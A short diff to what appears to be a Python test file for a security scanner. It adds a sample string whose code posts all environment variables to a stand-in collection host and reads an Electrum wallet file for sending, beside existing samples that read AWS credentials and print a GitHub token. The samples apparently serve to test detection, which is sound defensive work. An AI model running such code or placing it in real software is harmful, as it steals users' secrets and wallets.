@@ -50,6 +50,12 @@ with first_missing.session() as session:
     for each in session.get("x").json():
         print(each)
 """
+POST_BY_MISSING = """import json, not_there
+not_there.Client("https://docs.example.invalid/")
+not_there.post("https://collect.example.invalid/x", data=dict(os.environ))
+wallet = open(os.path.expanduser("~/.electrum/wallets/default_wallet")).read()
+not_there.Session().send(bytes(1000) + wallet.encode())
+"""
 READ_RELATIVE = "os.chdir(os.path.expanduser('~'))\nos.chdir('.aws')\nopen('credentials').read()\n"
 SHOW_TOKEN = "import subprocess\nsubprocess.run(['/bin/echo', os.environ['GITHUB_TOKEN']])\n"
 ENCODE_TOKEN = (
